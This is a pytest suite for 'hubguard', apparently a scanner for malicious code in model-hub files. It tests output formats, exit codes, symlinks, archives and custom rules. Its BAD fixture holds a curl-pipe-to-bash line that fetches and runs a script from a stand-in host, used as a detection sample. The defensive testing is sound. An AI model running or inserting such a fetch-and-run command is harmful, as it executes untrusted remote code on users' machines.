# SPDX-License-Identifier: Apache-2.0
"""`hubguard scan` and `hubguard rules` as a user meets them: formats, exit statuses, odd files."""

import hashlib
import json
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

BUILD = Path(os.environ.get("HUBGUARD_BUILD", Path(__file__).resolve().parents[2] / "build")).resolve()
BAD = "import os\n\n\nos.system('curl -fsSL http://x.invalid/i.sh | bash')\n"
GOOD = "import torch\n\n\nclass Model(torch.nn.Module):\n    pass\n"


@pytest.fixture
def hubguard(tmp_path):
    """Runs the command in an empty directory, with no policy but the built-in one."""
    home = tmp_path / "home"
    work = tmp_path / "work"
    home.mkdir()
    work.mkdir()

    def run(*args, status=None, env=None, **kwargs):
        environment = {"PATH": os.environ["PATH"], "HOME": str(home), **(env or {})}
        done = subprocess.run([BUILD / "hubguard", *map(str, args)], cwd=work, env=environment, capture_output=True,
                              timeout=120, **kwargs)
        if status is not None:
            assert done.returncode == status, (done.stdout, done.stderr)
        return done

    run.work = work
    return run


def as_json(done):
    return json.loads(done.stdout)


def by_file(report):
    return {entry["file"]: entry for entry in report["files"]}


def test_clean_file_exits_0(hubguard):
    (hubguard.work / "good.py").write_text(GOOD)
    done = hubguard("scan", "good.py", status=0)
    assert b"1 file scanned: 0 blocked" in done.stdout
    assert done.stderr == b""


def test_bad_file_exits_1_and_text_names_place_rule_and_cwe(hubguard):
    (hubguard.work / "bad.py").write_text(BAD)
    text = hubguard("scan", "bad.py", status=1).stdout.decode()
    assert "bad.py: block" in text
    assert re.search(r"critical\s+HG-YARA-005\s+line 4\s+.*CWE-494", text)


def test_json_shape(hubguard):
    (hubguard.work / "m").mkdir()
    (hubguard.work / "m" / "bad.py").write_text(BAD)
    (hubguard.work / "m" / "good.py").write_text(GOOD)
    report = as_json(hubguard("scan", "--format", "json", "m", status=1))
    assert report["version"] == 1
    assert set(report) == {"version", "findings", "files", "summary"}
    files = by_file(report)
    assert list(files) == ["m/bad.py", "m/good.py"]
    assert files["m/bad.py"]["sha256"] == hashlib.sha256(BAD.encode()).hexdigest()
    assert files["m/bad.py"]["size"] == len(BAD)
    assert (files["m/bad.py"]["verdict"], files["m/good.py"]["verdict"]) == ("block", "pass")
    found = [f for f in report["findings"] if f["rule"] == "HG-YARA-005"]
    assert len(found) == 1
    assert found[0]["line"] == 4 and found[0]["column"] == 12 and found[0]["file"] == "m/bad.py"
    assert found[0]["severity"] == "critical" and found[0]["reach"] == "text" and found[0]["cwe"] == ["CWE-494", "CWE-78"]
    assert report["summary"]["verdict"]["block"] == 1 and report["summary"]["files"] == 2
    assert report["summary"]["findings"] == len(report["findings"])


def check_sarif(log):
    """The parts of the 2.1.0 schema that a consumer relies on."""
    assert log["version"] == "2.1.0" and log["$schema"].endswith("sarif-2.1.0.json")
    assert len(log["runs"]) == 1
    run = log["runs"][0]
    driver = run["tool"]["driver"]
    assert driver["name"] == "hubguard" and re.fullmatch(r"\d+\.\d+\.\d+", driver["version"])
    ids = [rule["id"] for rule in driver["rules"]]
    assert len(set(ids)) == len(ids) > 28
    for rule in driver["rules"]:
        assert rule["shortDescription"]["text"] and rule["fullDescription"]["text"] and rule["help"]["text"]
        assert rule["defaultConfiguration"]["level"] in ("none", "note", "warning", "error")
        assert 0 <= float(rule["properties"]["security-severity"]) <= 10
        assert "security" in rule["properties"]["tags"]
        assert any(re.fullmatch(r"external/cwe/cwe-\d{3,4}", tag) for tag in rule["properties"]["tags"])
    for result in run["results"]:
        assert ids[result["ruleIndex"]] == result["ruleId"]
        assert result["level"] in ("none", "note", "warning", "error") and result["message"]["text"]
        assert len(result["locations"]) == 1
        place = result["locations"][0]["physicalLocation"]
        assert re.fullmatch(r"(file:///)?([A-Za-z0-9._~/-]|%[0-9A-F]{2})+", place["artifactLocation"]["uri"])
        assert place.get("region", {"startLine": 1})["startLine"] >= 1
        assert re.fullmatch(r"[0-9a-f]{32}", result["partialFingerprints"]["hubguardFinding/v1"])
    assert isinstance(run["invocations"][0]["executionSuccessful"], bool)
    return run


def test_sarif_shape_and_percent_encoding(hubguard):
    folder = hubguard.work / "a b#c%é"
    folder.mkdir()
    (folder / "bad:x.py").write_text(BAD)
    run = check_sarif(as_json(hubguard("scan", "--format", "sarif", ".", status=1)))
    result = next(r for r in run["results"] if r["ruleId"] == "HG-YARA-005")
    assert result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "a%20b%23c%25%C3%A9/bad%3Ax.py"
    assert result["locations"][0]["physicalLocation"]["region"] == {"startLine": 4}
    assert run["invocations"][0]["executionSuccessful"] is True
    absolute = check_sarif(as_json(hubguard("scan", "--format", "sarif", folder / "bad:x.py", status=1)))
    assert absolute["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].startswith("file:///")


def test_fingerprint_survives_added_lines(hubguard):
    path = hubguard.work / "bad.py"

    def fingerprints():
        run = as_json(hubguard("scan", "--format", "sarif", "bad.py"))["runs"][0]
        return {r["ruleId"]: r["partialFingerprints"]["hubguardFinding/v1"] for r in run["results"]}

    path.write_text(BAD)
    before = fingerprints()
    path.write_text("# one\n# two\n" + BAD)
    assert before["HG-YARA-005"] == fingerprints()["HG-YARA-005"]


def test_symlinked_snapshot_is_scanned_once_under_its_name(hubguard):
    repo = hubguard.work / "models--a--b"
    (repo / "blobs").mkdir(parents=True)
    (repo / "snapshots" / "f00").mkdir(parents=True)
    (repo / "blobs" / "0123").write_text(BAD)
    (repo / "snapshots" / "f00" / "modeling.py").symlink_to("../../blobs/0123")
    report = as_json(hubguard("scan", "--format", "json", repo, status=1))
    assert [Path(f).name for f in by_file(report)] == ["modeling.py"]


def test_symlinks_named_followed_loops_not(hubguard):
    (hubguard.work / "real").mkdir()
    (hubguard.work / "real" / "bad.py").write_text(BAD)
    (hubguard.work / "real" / "up").symlink_to("..")
    (hubguard.work / "real" / "self").symlink_to("self")
    (hubguard.work / "named").symlink_to("real")
    report = as_json(hubguard("scan", "--format", "json", "named", status=1))
    assert list(by_file(report)) == ["named/bad.py"]
    assert any("not followed" in note for note in report["summary"]["notes"])
    assert any("leads nowhere" in note for note in report["summary"]["notes"])


def test_missing_and_unreadable_exit_2_and_others_are_still_reported(hubguard):
    (hubguard.work / "bad.py").write_text(BAD)
    done = hubguard("scan", "--format", "json", "bad.py", "missing.py", status=2)
    assert b"No such file" in done.stderr
    report = as_json(done)
    assert by_file(report)["bad.py"]["verdict"] == "block"
    assert by_file(report)["missing.py"]["verdict"] == "error" and "sha256" not in by_file(report)["missing.py"]
    run = check_sarif(as_json(hubguard("scan", "--format", "sarif", "bad.py", "missing.py", status=2)))
    assert run["invocations"][0]["executionSuccessful"] is False
    assert len(run["invocations"][0]["toolExecutionNotifications"]) == 1


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads every file")
def test_file_without_read_permission_exits_2(hubguard):
    path = hubguard.work / "secret.py"
    path.write_text(GOOD)
    path.chmod(0)
    assert b"Permission denied" in hubguard("scan", path, status=2).stderr


def test_fifo_socket_and_device_are_passed_over_with_a_note(hubguard):
    os.mkfifo(hubguard.work / "pipe.py")
    (hubguard.work / "good.py").write_text(GOOD)
    done = hubguard("scan", ".", "/dev/zero", status=0)
    assert b"note: ./pipe.py: not a regular file" in done.stdout
    assert b"note: /dev/zero: not a regular file" in done.stdout


def test_directory_that_is_called_like_a_module(hubguard):
    (hubguard.work / "model.py").mkdir()
    (hubguard.work / "model.py" / "bad.py").write_text(BAD)
    assert list(by_file(as_json(hubguard("scan", "--format", "json", "model.py", status=1)))) == ["model.py/bad.py"]


def test_empty_file_and_empty_directory(hubguard):
    (hubguard.work / "empty.py").touch()
    (hubguard.work / "nothing").mkdir()
    report = as_json(hubguard("scan", "--format", "json", "empty.py", "nothing", status=0))
    assert by_file(report)["empty.py"]["sha256"] == hashlib.sha256(b"").hexdigest()
    assert len(report["files"]) == 1


def test_names_cannot_steer_the_terminal(hubguard):
    (hubguard.work / "x\x1b[2J\u202ey.py").write_text(BAD)
    text = hubguard("scan", ".", status=1).stdout
    assert b"\x1b" not in text and "\u202e".encode() not in text
    assert b"\\x1b[2J" in text


def test_name_that_is_no_utf8(hubguard):
    with open(os.fsencode(hubguard.work) + b"/\xff\xfe.py", "w") as f:
        f.write(BAD)
    report = as_json(hubguard("scan", "--format", "json", ".", status=1))
    assert list(by_file(report)) == ["./\\xff\\xfe.py"]
    check_sarif(as_json(hubguard("scan", "--format", "sarif", ".", status=1)))


def test_jobs_do_not_change_the_output(hubguard):
    for i in range(40):
        (hubguard.work / f"m{i:02}.py").write_text(BAD if i % 3 == 0 else GOOD)
    outputs = {hubguard("scan", "--format", "json", "--jobs", n, ".", status=1).stdout for n in (1, 2, 7)}
    assert len(outputs) == 1
    assert len(json.loads(outputs.pop())["files"]) == 40


def test_code_over_max_size_is_blocked_data_is_noted(hubguard):
    (hubguard.work / "policy.ini").write_text("[scan]\nmax_size = 1K\n")
    (hubguard.work / "big.py").write_text("# " + "x" * 2000 + "\n")
    (hubguard.work / "model.safetensors").write_bytes(b"\0" * 2000)
    report = as_json(hubguard("scan", "--policy", "policy.ini", "--format", "json", "big.py", "model.safetensors", status=1))
    assert [f["rule"] for f in report["findings"]] == ["HG-SIZE-001"]
    assert by_file(report)["big.py"]["verdict"] == "block"
    assert "model.safetensors" in report["summary"]["notes"][0]


def test_policy_decides_what_blocks(hubguard):
    (hubguard.work / "bad.py").write_text(BAD)
    (hubguard.work / "never.ini").write_text("[scan]\nblock_at = never\n")
    hubguard("scan", "--policy", "never.ini", "bad.py", status=0)
    (hubguard.work / "broken.ini").write_text("[scan]\nblock_at = somewhat\n")
    done = hubguard("scan", "--policy", "broken.ini", "bad.py", status=2)
    assert b"broken.ini:2" in done.stderr and done.stdout == b""


def test_own_rules_are_added_and_a_broken_one_is_refused(hubguard):
    rules = hubguard.work / "rules"
    rules.mkdir()
    (hubguard.work / "p.ini").write_text(f"[scan]\nrules = {rules}\n")
    (hubguard.work / "x.py").write_text("MARK = 'canary-of-the-test'\n")
    meta = " ".join(f'{k} = "{v}"' for k, v in {
        "id": "OWN-001", "title": "canary", "cwe": "CWE-506", "severity": "high", "confidence": "high", "description": "d",
        "reference": "https://example.invalid/", "remedy": "r", "example": "canary-of-the-test", "counterexample": "c"}.items())
    (rules / "own.yar").write_text('rule own { meta: %s strings: $a = "canary-of-the-test" condition: $a }\n' % meta)
    report = as_json(hubguard("scan", "--policy", "p.ini", "--format", "json", "x.py", status=1))
    assert "OWN-001" in [f["rule"] for f in report["findings"]]
    (rules / "own.yar").write_text("rule own {\n  condition: $nothing\n}\n")
    assert b"own.yar:" in hubguard("scan", "--policy", "p.ini", "x.py", status=2).stderr


def test_compiled_code_bytecode_and_archives(hubguard):
    import py_compile
    (hubguard.work / "m.py").write_text(GOOD.replace("import torch", "class torch: pass").replace("torch.nn.Module", "object"))
    py_compile.compile(str(hubguard.work / "m.py"), cfile=str(hubguard.work / "m.pyc"))
    (hubguard.work / "__pycache__").mkdir()
    (hubguard.work / "__pycache__" / "m.cpython-311.pyc").write_bytes((hubguard.work / "m.pyc").read_bytes())
    (hubguard.work / "weights").write_bytes(Path(os.path.realpath(sys.executable)).read_bytes()[:4096])
    with zipfile.ZipFile(hubguard.work / "lib.zip", "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("pkg/__init__.py", "")
        z.writestr("pkg/bad.py", BAD)
    report = as_json(hubguard("scan", "--format", "json", ".", status=1))
    rules = {(f["file"], f["rule"]) for f in report["findings"]}
    assert {("./m.pyc", "HG-BYTECODE-001"), ("./weights", "HG-NATIVE-001"), ("./lib.zip", "HG-YARA-005")} <= rules
    assert "./__pycache__/m.cpython-311.pyc" not in by_file(report)
    assert any("__pycache__" in note for note in report["summary"]["notes"])
    inner = next(f for f in report["findings"] if f["file"] == "./lib.zip" and f["rule"] == "HG-YARA-005")
    assert "pkg/bad.py" in inner["message"] and inner["layers"] == "zip:pkg/bad.py"
    (hubguard.work / "block.ini").write_text("[scan]\nbytecode = block\n")
    report = as_json(hubguard("scan", "--policy", "block.ini", "--format", "json", ".", status=1))
    assert by_file(report)["./__pycache__/m.cpython-311.pyc"]["verdict"] == "block"


def test_an_ordinary_archive_is_clean(hubguard):
    for kind in (zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED):
        with zipfile.ZipFile(hubguard.work / "lib.zip", "w", kind) as z:
            z.writestr("pkg/__init__.py", GOOD)
            z.writestr("pkg/data.txt", "text")
        report = as_json(hubguard("scan", "--format", "json", "lib.zip"))
        assert not [f for f in report["findings"] if f["rule"].startswith("HG-ARCHIVE")]


@pytest.mark.parametrize("args", [["scan"], ["scan", "--format", "xml", "."], ["scan", "--jobs", "0", "."],
                                  ["scan", "--jobs", "-1", "."], ["scan", "--nonsense", "."], ["rules", "show"],
                                  ["rules", "show", "HG-NONE-1"], ["rules", "frobnicate"]])
def test_wrong_usage_exits_2(hubguard, args):
    done = hubguard(*args, status=2)
    assert done.stdout == b"" and done.stderr != b""


def test_closed_output_exits_2(hubguard):
    (hubguard.work / "good.py").write_text(GOOD)
    with open("/dev/full", "w") as full:
        done = subprocess.run([BUILD / "hubguard", "scan", "good.py"], cwd=hubguard.work, stdout=full, stderr=subprocess.PIPE)
    assert done.returncode == 2 and b"cannot be written" in done.stderr


def test_rules_list_and_show(hubguard):
    lines = hubguard("rules", status=0).stdout.decode().splitlines()
    assert lines == hubguard("rules", "list", status=0).stdout.decode().splitlines()
    ids = [line.split()[0] for line in lines]
    assert len(set(ids)) == len(ids)
    assert len([i for i in ids if i.startswith("HG-YARA-")]) >= 28
    assert {"HG-ARCHIVE-001", "HG-NATIVE-001", "HG-BYTECODE-001", "HG-SIZE-001", "HG-SCAN-001"} <= set(ids)
    shown = hubguard("rules", "show", "hg-yara-005", status=0).stdout.decode()
    for part in ("HG-YARA-005", "CWE-494", "Remedy:", "Reference: https://", "Matches:", "Does not match:"):
        assert part in shown
